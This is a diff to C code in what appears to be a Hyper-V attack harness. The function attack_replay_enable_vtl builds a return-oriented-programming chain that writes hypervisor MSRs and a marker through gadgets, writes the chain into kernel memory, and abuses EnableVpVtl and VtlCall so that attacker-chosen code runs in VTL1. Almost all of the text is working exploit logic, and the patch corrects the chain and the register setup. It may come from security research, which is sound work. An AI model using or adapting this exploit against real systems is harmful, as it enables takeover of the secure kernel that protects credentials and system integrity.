@@ -150,9 +150,12 @@ static int attack_replay_enable_vtl(const char *args)
     /* 2. EnableVpVtl(1) with our context: VTL0's GDT and page tables, RIP/RSP = a ROP chain */
     u64 offsets = vsm_code_page_offsets(in);
     u64 pop3 = sym("gadget_pop_rdi_rsi_rdx");
-    u64 chain[10] = {HV_X64_MSR_HYPERCALL, hv | 1, 0, sym("wrmsr_safe"),      /* VTL1's hypercall page */
+    u64 chain[15] = {HV_X64_MSR_GUEST_OS_ID, 0x8100000000000001ull, 0, sym("wrmsr_safe"), /* private per VTL */
+                     pop3, HV_X64_MSR_HYPERCALL, hv | 1, 0, sym("wrmsr_safe"), /* VTL1's hypercall page */
                      pop3, mark, VTL1_MARK, 0, sym("gadget_write_mem"),       /* *mark = VTL1_MARK */
-                     hv + ((offsets >> 12) & 0xfff)};                         /* VtlReturn */
+                     /* VtlReturn, past the stub's "mov %rcx, %rax": RAX (wrmsr_safe's 0) is the return
+                      * control input, a normal return */
+                     hv + ((offsets >> 12) & 0xfff) + 3};
     kwrite_buf(stack, chain, sizeof(chain));
     kwrite(mark, 0);
     struct hv_enable_vp_vtl ev;
@@ -184,7 +187,7 @@ static int attack_replay_enable_vtl(const char *args)
                        HV_STATUS(st1), HV_STATUS(st2),
                        HV_STATUS(st2) == 0x86 ? " (HV_STATUS_VTL_ALREADY_ENABLED)" : "");
     /* 3. VtlCall: our VTL1 runs the chain and returns */
-    kcall(hv + (offsets & 0xfff), 0);
+    kcall3(hv + (offsets & 0xfff), 0, 0, 0); /* RCX = 0: the VTL call control input */
     u64 m = kread(mark);
     if (m == VTL1_MARK)
         attack_succeeded("VTL1 is ours: the context we gave EnableVpVtl ran in VTL1 (enabled its hypercall page, "
